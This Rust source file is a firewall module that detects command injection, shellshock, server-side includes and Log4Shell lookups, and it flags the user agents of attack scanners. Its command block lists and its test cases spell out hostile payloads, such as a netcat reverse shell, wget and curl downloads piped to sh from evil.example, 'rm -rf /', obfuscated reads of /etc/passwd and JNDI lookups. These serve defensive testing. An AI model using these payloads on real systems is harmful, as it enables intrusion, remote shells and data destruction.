//! Command injection: a shell separator (`;`, `|`, `||`, `&`, `&&`, a
//! newline), a substitution (`` `…` ``, `$(…)`, `<(…)`) or a brace
//! expansion (`{cat,/etc/passwd}`) followed by a known command in command
//! position, after removing the quoting tricks shells ignore (`c''at`,
//! `c\at`, `w'h'o'am'i`, `$IFS`, `^` in `cmd`). An ordinary English word
//! after `&` or `;` is not a command unless its arguments look like a
//! shell's (`; cat food` passes, `; cat /etc/passwd` does not). Also
//! shellshock (`() {`), server-side includes, well-known shells and
//! devices named anywhere (`/bin/sh`, `/dev/tcp/`, `cmd.exe`), and
//! Log4Shell lookups (`${jndi:…}` with nested `${lower:…}` / `${::-j}`
//! obfuscation), reported as `jndi`.
//!
//! The input is the normalised value (decoded, NFKC, lower case).

use std::borrow::Cow;

use super::Patterns;

static SHELL_PATHS: Patterns = Patterns::new(ANYWHERE);
static ATTACK_TOOLS: Patterns = Patterns::new(SCANNER_AGENTS);

/// Commands that are not English words: after a separator they are an
/// attack whatever follows.
const UNAMBIGUOUS: &[&str] = &[
    "whoami",
    "ifconfig",
    "ipconfig",
    "netstat",
    "nslookup",
    "wget",
    "curl",
    "ncat",
    "netcat",
    "nc",
    "powershell",
    "pwsh",
    "certutil",
    "bitsadmin",
    "mshta",
    "rundll32",
    "regsvr32",
    "wmic",
    "crontab",
    "mkfifo",
    "busybox",
    "socat",
    "systeminfo",
    "tasklist",
    "taskkill",
    "xterm",
    "printenv",
    "uname",
    "chmod",
    "chown",
    "bash",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "sh",
    "perl",
    "php",
    "python",
    "python2",
    "python3",
    "telnet",
    "tftp",
    "sudo",
    "passwd",
    "useradd",
    "usermod",
    "rm",
    "ls",
    "pwd",
    "cmd",
    "nmap",
    "getent",
    "lsof",
    "iptables",
    "xxd",
    "base64",
    "tcpdump",
    "msiexec",
    "reg",
    "schtasks",
    "vssadmin",
    "ps",
];

/// Commands that are also words: they need a shell-like continuation.
const AMBIGUOUS: &[&str] = &[
    "id", "cat", "echo", "ping", "sleep", "kill", "dir", "type", "find", "head", "tail", "more",
    "less", "touch", "mkdir", "cp", "mv", "who", "host", "dig", "ssh", "scp", "ftp", "net", "set",
    "env", "time", "sort", "awk", "sed", "tar", "zip", "unzip", "del", "copy", "start", "call",
    "exec", "eval", "which", "locate", "grep", "nl", "od", "xargs", "hostname", "history", "top",
    "java", "node", "ruby", "lua", "timeout", "usleep", "ver", "vol", "powercfg", "expr", "printf",
    "rev", "tee", "dd", "file", "strings", "uniq", "wc", "cut", "diff",
];

const NETWORK: &[&str] = &[
    "nc", "ncat", "netcat", "ping", "nslookup", "dig", "host", "telnet", "ssh", "ftp", "tftp",
    "curl", "wget", "scp", "socat",
];

const NUMERIC_ARGS: &[&str] = &[
    "sleep", "ping", "timeout", "kill", "nc", "ncat", "head", "tail", "usleep",
];

const WRAPPERS: &[&str] = &[
    "sudo", "env", "busybox", "nohup", "exec", "command", "builtin", "nice", "xargs", "doas",
];

const ANYWHERE: &[&str] = &[
    "/bin/sh",
    "/bin/bash",
    "/bin/zsh",
    "/bin/dash",
    "/bin/ksh",
    "/bin/csh",
    "/bin/busybox",
    "/dev/tcp/",
    "/dev/udp/",
    "cmd.exe",
    "cmd /c",
    "cmd /k",
    "powershell.exe",
    "powershell -",
    "pwsh -",
    "<!--#exec",
    "<!--#include",
    "%comspec%",
    "/usr/bin/id",
    "/usr/bin/whoami",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
];

const SCANNER_AGENTS: &[&str] = &[
    "sqlmap",
    "nikto",
    "nmap",
    "masscan",
    "acunetix",
    "wpscan",
    "nuclei",
    "dirbuster",
    "gobuster",
    "zgrab",
    "netsparker",
    "w3af",
    "havij",
    "openvas",
    "nessus",
    "arachni",
    "commix",
    "jaeles",
    "ffuf",
    "feroxbuster",
    "wfuzz",
    "burpcollaborator",
    "interact.sh",
    "xsstrike",
    "appscan",
    "skipfish",
    "whatweb",
    "dotdotpwn",
    "fimap",
    "brutus",
];

/// Is this (normalised) user agent a well-known attack tool?
#[must_use]
pub fn scanner_agent(folded: &str) -> Option<&'static str> {
    ATTACK_TOOLS
        .is_match(folded)
        .then_some("attack tool user agent")
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Sep {
    /// The start of the value.
    Start,
    /// `;`, `|`, `&`, `&&`, `||`, newline.
    Seq,
    /// `` ` ``, `$(`, `<(`, `>(`.
    Subst,
    /// `{`.
    Brace,
}

fn is_meta(b: u8) -> bool {
    matches!(
        b,
        b';' | b'|'
            | b'&'
            | b'`'
            | b')'
            | b'('
            | b'<'
            | b'>'
            | b'\''
            | b'"'
            | b'{'
            | b'}'
            | b','
            | b'#'
            | b'\n'
            | b'\r'
    )
}

fn is_blank(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | 0x0b | 0x0c)
}

/// Removes what a shell would remove before running the word: empty quotes,
/// quotes and backslashes inside a word, `$@`, `$IFS` (as a space), `^`
/// between letters (cmd.exe).
fn unquote(s: &str) -> Cow<'_, str> {
    let b = s.as_bytes();
    let word = |i: Option<usize>| {
        i.and_then(|i| b.get(i))
            .is_some_and(|c| c.is_ascii_alphanumeric())
    };
    // Only allocate when there is something to remove.
    let trick = b.iter().enumerate().any(|(i, &c)| match c {
        b'$' => matches!(b.get(i + 1), Some(b'@' | b'{' | b'i')),
        b'\\' => word(Some(i + 1)),
        b'\'' | b'"' => b.get(i + 1) == Some(&c) || (word(i.checked_sub(1)) && word(Some(i + 1))),
        b'^' => word(i.checked_sub(1)) && word(Some(i + 1)),
        _ => false,
    });
    if !trick {
        return Cow::Borrowed(s);
    }
    let mut s = s.to_owned();
    for (pattern, with) in [
        ("${ifs}", " "),
        ("$ifs$9", " "),
        ("$ifs", " "),
        ("$@", ""),
        ("''", ""),
        ("\"\"", ""),
    ] {
        if s.contains(pattern) {
            s = s.replace(pattern, with);
        }
    }
    let b = s.as_bytes();
    let word = |i: Option<usize>| {
        i.and_then(|i| b.get(i))
            .is_some_and(|c| c.is_ascii_alphanumeric())
    };
    let mut out = String::with_capacity(s.len());
    for (i, c) in s.char_indices() {
        let inside = word(i.checked_sub(1)) && word(Some(i + 1));
        match c {
            '\\' if word(Some(i + 1)) => {}
            '\'' | '"' | '^' if inside => {}
            _ => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// The command word at `j` (after `sep`), if it is run as a command.
fn command_at(s: &str, j: usize, sep: Sep, wrapped: u8) -> bool {
    let b = s.as_bytes();
    let mut k = j;
    while b.get(k).is_some_and(|&c| is_blank(c)) {
        k += 1;
    }
    if sep != Sep::Start && matches!(b.get(k), Some(b'\'' | b'"')) {
        k += 1;
    }
    let start = k;
    while b.get(k).is_some_and(|&c| !is_blank(c) && !is_meta(c)) {
        k += 1;
    }
    let token = s.get(start..k).unwrap_or("");
    if token.is_empty() {
        return false;
    }
    let had_path = token.contains(['/', '\\']);
    let cmd = token.rsplit(['/', '\\']).next().unwrap_or(token);
    let cmd = cmd.strip_suffix(".exe").unwrap_or(cmd);
    if had_path && sep == Sep::Seq && cmd.contains(['?', '*']) {
        // `;/???/??t /???/p??s??`: a globbed path run as a command.
        return true;
    }
    if WRAPPERS.contains(&cmd)
        && wrapped < 2
        && b.get(k).is_some_and(|&c| is_blank(c))
        && command_at(s, k, sep, wrapped + 1)
    {
        return true;
    }
    let unambiguous = UNAMBIGUOUS.contains(&cmd);
    if !unambiguous && !AMBIGUOUS.contains(&cmd) {
        return false;
    }
    match sep {
        Sep::Subst => return true,
        Sep::Brace => return matches!(b.get(k), Some(b',' | b'}')),
        Sep::Seq | Sep::Start => {}
    }
    // At the start of a value only an explicit binary path is a command
    // (`/bin/cat x`, `./run`), not any path ending in a command's name.
    let binary_path = token.contains("bin/") || token.starts_with("./");
    let start_ok = sep == Sep::Seq || binary_path;
    match b.get(k) {
        None => return start_ok,
        Some(&c) if is_meta(c) && c != b',' => {
            return start_ok || matches!(c, b'<' | b'>' | b'|');
        }
        Some(_) => {}
    }
    if sep == Sep::Seq && unambiguous {
        return true;
    }
    while b.get(k).is_some_and(|&c| is_blank(c)) {
        k += 1;
    }
    let arg_start = k;
    while b.get(k).is_some_and(|&c| !is_blank(c)) {
        k += 1;
    }
    let arg = s.get(arg_start..k).unwrap_or("");
    let a = arg.as_bytes();
    let first = a.first().copied();
    let second = a.get(1).copied();
    let flag =
        first == Some(b'-') && second.is_some_and(|c| c.is_ascii_alphanumeric() || c == b'-');
    let drive = matches!((first, second, a.get(2)), (Some(c), Some(b':'), Some(b'\\' | b'/')) if c.is_ascii_alphabetic());
    if sep == Sep::Start {
        return binary_path
            || flag
            || drive
            || matches!(first, Some(b'/' | b'~' | b'$' | b'`' | b'>' | b'<' | b'|'))
            || (unambiguous && arg.contains("://"));
    }
    if flag || drive || arg.contains("://") {
        return true;
    }
    if matches!(
        first,
        Some(
            b'/' | b'~'
                | b'$'
                | b'`'
                | b'\\'
                | b'*'
                | b'>'
                | b'<'
                | b'|'
                | b';'
                | b'&'
                | b'\''
                | b'"'
                | b'%'
                | b'#'
        )
    ) {
        return true;
    }
    if redirects(s.get(arg_start..).unwrap_or("")) {
        return true;
    }
    if first == Some(b'.') && matches!(second, Some(b'.' | b'/')) {
        return true;
    }
    if first.is_some_and(|c| c.is_ascii_digit()) && NUMERIC_ARGS.contains(&cmd) {
        return true;
    }
    if NETWORK.contains(&cmd) {
        let host = arg.trim_end_matches(|c: char| !c.is_ascii_alphanumeric());
        if host.contains('.')
            && host
                .bytes()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-' | b':'))
        {
            return true;
        }
    }
    cmd == "net"
        && matches!(
            arg,
            "user"
                | "localgroup"
                | "view"
                | "share"
                | "use"
                | "start"
                | "stop"
                | "group"
                | "accounts"
                | "session"
        )
}

/// Does the rest of a command (up to the next separator) redirect to or
/// from a path (`> /tmp/x`, `2>&1`, `< ~/.ssh/id_rsa`)?
fn redirects(rest: &str) -> bool {
    let end = rest.find([';', '|', '&', '\n', '`']).unwrap_or(rest.len());
    let command = rest.get(..end).unwrap_or("");
    command.match_indices(['>', '<']).any(|(i, _)| {
        let after = command.get(i + 1..).unwrap_or("");
        let after = after.strip_prefix(['>', '<']).unwrap_or(after).trim_start();
        after.starts_with(['/', '~', '$', '.', '&'])
    }) || rest
        .get(end..)
        .is_some_and(|r| r.starts_with(">&") || r.starts_with("&1"))
}

/// Log4Shell: resolves the `${…}` lookups inside out (`${lower:j}` → `j`,
/// `${::-j}` → `j`, unknown lookups → empty) and reports a `jndi:` lookup.
fn jndi(s: &str) -> bool {
    if !s.contains("${") {
        return false;
    }
    let mut cur = s.to_owned();
    for _ in 0..64 {
        let Some(first_open) = cur.find("${") else {
            break;
        };
        let Some(close) = cur
            .get(first_open..)
            .and_then(|r| r.find('}'))
            .map(|c| first_open + c)
        else {
            break;
        };
        let Some(open) = cur.get(..close).and_then(|h| h.rfind("${")) else {
            break;
        };
        let content = cur.get(open + 2..close).unwrap_or("");
        if content.trim_start().starts_with("jndi:") {
            return true;
        }
        let resolved = match content.rfind(":-") {
            Some(d) => content.get(d + 2..).unwrap_or("").to_owned(),
            None => match content.split_once(':') {
                Some(("lower" | "upper", rest)) => rest.to_owned(),
                Some(("date", rest)) => rest.trim_matches('\'').to_owned(),
                _ => String::new(),
            },
        };
        cur.replace_range(open..=close, &resolved);
    }
    cur.contains("${jndi:")
}

fn shellshock(s: &str) -> bool {
    s.match_indices("()").any(|(i, _)| {
        s.get(i + 2..)
            .is_some_and(|r| r.trim_start().starts_with('{'))
    })
}

/// The rule (`cmdi` or `jndi`) and reason, if the normalised value reads as
/// command injection.
#[must_use]
pub fn detect(folded: &str) -> Option<(&'static str, &'static str)> {
    if jndi(folded) {
        return Some(("jndi", "jndi lookup"));
    }
    if !folded.bytes().any(|b| {
        matches!(
            b,
            b';' | b'|'
                | b'&'
                | b'`'
                | b'$'
                | b'('
                | b'{'
                | b'<'
                | b'>'
                | b'\n'
                | b'/'
                | b'\\'
                | b'%'
        )
    }) {
        return None;
    }
    if shellshock(folded) {
        return Some(("cmdi", "shellshock function definition"));
    }
    if let Some(hit) = separators(folded) {
        return Some(hit);
    }
    match unquote(folded) {
        Cow::Owned(u) => separators(&u),
        Cow::Borrowed(_) => None,
    }
}

/// Commands in command position in one reading of the value.
fn separators(s: &str) -> Option<(&'static str, &'static str)> {
    if SHELL_PATHS.is_match(s) {
        return Some(("cmdi", "shell or device path"));
    }
    if command_at(s, 0, Sep::Start, 0) {
        return Some(("cmdi", "command at start of value"));
    }
    let b = s.as_bytes();
    for (i, &c) in b.iter().enumerate() {
        let next = b.get(i + 1).copied();
        let (sep, after) = match c {
            b';' | b'\n' => (Sep::Seq, i + 1),
            b'|' | b'&' => (Sep::Seq, if next == Some(c) { i + 2 } else { i + 1 }),
            b'`' => (Sep::Subst, i + 1),
            b'$' | b'<' | b'>' if next == Some(b'(') => (Sep::Subst, i + 2),
            b'{' => (Sep::Brace, i + 1),
            _ => continue,
        };
        if command_at(s, after, sep, 0) {
            return Some((
                "cmdi",
                match sep {
                    Sep::Subst => "command substitution",
                    Sep::Brace => "brace expansion",
                    Sep::Seq | Sep::Start => "command after shell separator",
                },
            ));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn cmdi(s: &str) {
        let n = crate::waf::normalize::normalize(s, 4);
        assert!(detect(&n).is_some(), "missed: {s}");
    }

    #[track_caller]
    fn clean(s: &str) {
        let n = crate::waf::normalize::normalize(s, 4);
        assert_eq!(detect(&n), None, "false positive: {s}");
    }

    #[test]
    fn true_positives() {
        for s in [
            "; id",
            ";id;",
            "| id",
            "|| whoami",
            "&& cat /etc/passwd",
            "& ping -c 10 127.0.0.1 &",
            "; ls -la",
            "`id`",
            "$(id)",
            "$( whoami )",
            "x; rm -rf /",
            "| nc evil.example 4444 -e /bin/sh",
            "; wget http://evil.example/x.sh",
            "; curl evil.example|sh",
            "; c''at /et''c/pa''sswd",
            "; c\\at /etc/passwd",
            ";w'h'o'am'i",
            ";cat${IFS}/etc/passwd",
            ";{cat,/etc/passwd}",
            "cat /etc/passwd",
            "| type c:\\windows\\win.ini",
            "& dir",
            "| net user",
            "() { :; }; /bin/bash -c 'id'",
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:ldap://evil.example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/a}",
            "; sleep 5",
            "%0a id",
            ";/???/??t /???/p??s??",
            "; sudo -u root id",
            "|powershell -enc AAAA",
            "<!--#exec cmd=\"ls\"-->",
            "127.0.0.1; nslookup evil.example",
            "a;b=$(cat /etc/hostname)",
            "& w^h^o^a^m^i",
            "a); id #",
            "; echo vulnerable > /tmp/x",
            "; ps aux",
        ] {
            cmdi(s);
        }
    }

    #[test]
    fn benign_text() {
        for s in [
            "Tom & Jerry's fund",
            "Salt & pepper",
            "R&D budget; cat food money",
            "BTC | ETH spread",
            "pipe | delimited | note",
            "Buy && hold",
            "Q3 P&L -- rebalance",
            "AT&T",
            "see https://example.com/report?id=42&lang=en&cat=2",
            "Transfer (ID) 42",
            "cost $(USD) 100",
            "`main` branch",
            "R&D | type: hedge",
            "Meeting @ 10:00; drop by",
            "a | sort of thing",
            "echo chamber; more later",
            "Don't sell below 60k; buy dips",
            "{ticker, price}",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
            "C:\\Users\\me\\Documents",
            "1/2 of BTC",
            "who knows; time will tell",
            "id 42",
            "ping me",
            "John; cat lover",
        ] {
            clean(s);
        }
    }

    #[test]
    fn scanners() {
        assert!(scanner_agent("sqlmap/1.7.2#stable (https://sqlmap.org)").is_some());
        assert!(scanner_agent("mozilla/5.0 (x11; linux x86_64)").is_none());
    }
}
